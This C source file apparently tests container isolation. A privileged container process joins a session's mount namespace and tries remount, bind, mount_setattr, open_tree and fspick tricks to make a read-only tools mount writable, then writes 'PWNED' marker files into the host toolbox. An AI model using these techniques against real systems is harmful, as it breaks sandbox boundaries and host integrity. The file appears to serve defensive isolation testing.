/* A container process holding CAP_SYS_ADMIN that turns the tools a
 * session brought in against the host: it joins the mount namespace of a
 * process of the session, and tries every way it knows to make the tools'
 * mount writable, then to write through it into the host's toolbox.
 *
 * Usage: tools_attacker PID PLACE
 *   PID: a process of the session, as the container sees it ("self": stay
 *   in our own mount namespace, where PLACE is mounted already);
 *   PLACE: where the tools are mounted in that namespace (a directory of
 *   programs: /mnt or /dev/shm; a whole toolbox root: /).
 *
 * Each attempt prints one line, "NAME ok" or "NAME ERRNO", and each write
 * that follows a step that worked prints "NAME-write ok|ERRNO":
 *   join: setns into PID's mount namespace;
 *   write: a new file at PLACE, as it is;
 *   remount-bind: mount -o remount,rw,bind PLACE;
 *   remount: mount -o remount,rw PLACE (the superblock too);
 *   bind: a bind mount of PLACE at /tmp/attack-bind, remounted rw;
 *   setattr: mount_setattr clearing MOUNT_ATTR_RDONLY on PLACE;
 *   clone: a detached clone of PLACE (open_tree), made writable with
 *     mount_setattr, written through;
 *   fspick: the superblock reconfigured read-write through fspick.
 * The files written are named attack-NAME. Then "done".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *place;

static int report(const char *name, int rc) {
    printf("%s %s\n", name, rc == 0 ? "ok" : strerrorname_np(errno));
    fflush(stdout);
    return rc;
}

/* A new file named attack-NAME in the directory `dir` (relative to `at`). */
static void try_write(const char *name, int at, const char *dir) {
    char path[512], label[64];
    snprintf(path, sizeof path, "%s/attack-%s", dir, name);
    snprintf(label, sizeof label, "%s-write", name);
    int fd = openat(at, path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (fd >= 0) {
        if (write(fd, "PWNED\n", 6) != 6) fd = -1;
        close(fd);
    }
    report(label, fd >= 0 ? 0 : -1);
}

static int setattr_rw(int dfd, const char *path, unsigned flags) {
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
    return mount_setattr(dfd, path, flags, &attr, sizeof attr);
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: tools_attacker PID PLACE\n");
        return 2;
    }
    place = argv[2];
    if (strcmp(argv[1], "self") != 0) {
        char ns[64];
        snprintf(ns, sizeof ns, "/proc/%s/ns/mnt", argv[1]);
        int fd = open(ns, O_RDONLY);
        if (report("join", fd < 0 ? -1 : setns(fd, CLONE_NEWNS)) != 0) {
            puts("done");
            return 0;
        }
    }
    try_write("write", AT_FDCWD, place);
    if (report("remount-bind", mount(NULL, place, NULL, MS_REMOUNT | MS_BIND, NULL)) == 0)
        try_write("remount-bind", AT_FDCWD, place);
    if (report("remount", mount(NULL, place, NULL, MS_REMOUNT, NULL)) == 0)
        try_write("remount", AT_FDCWD, place);
    mkdir("/tmp", 01777);
    mkdir("/tmp/attack-bind", 0755);
    if (report("bind", mount(place, "/tmp/attack-bind", NULL, MS_BIND, NULL)) == 0 &&
        report("bind-remount",
               mount(NULL, "/tmp/attack-bind", NULL, MS_REMOUNT | MS_BIND, NULL)) == 0)
        try_write("bind", AT_FDCWD, "/tmp/attack-bind");
    if (report("setattr", setattr_rw(AT_FDCWD, place, AT_RECURSIVE)) == 0)
        try_write("setattr", AT_FDCWD, place);
    int tree = open_tree(AT_FDCWD, place, OPEN_TREE_CLONE | AT_RECURSIVE);
    if (report("clone", tree < 0 ? -1 : 0) == 0 &&
        report("clone-setattr", setattr_rw(tree, "", AT_EMPTY_PATH | AT_RECURSIVE)) == 0)
        try_write("clone", tree, ".");
    int fs = fspick(AT_FDCWD, place, 0);
    if (report("fspick", fs < 0 ? -1 : 0) == 0 &&
        report("fspick-rw", fsconfig(fs, FSCONFIG_SET_FLAG, "rw", NULL, 0) != 0
                                ? -1
                                : fsconfig(fs, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0)) == 0)
        try_write("fspick", AT_FDCWD, place);
    puts("done");
    return 0;
}
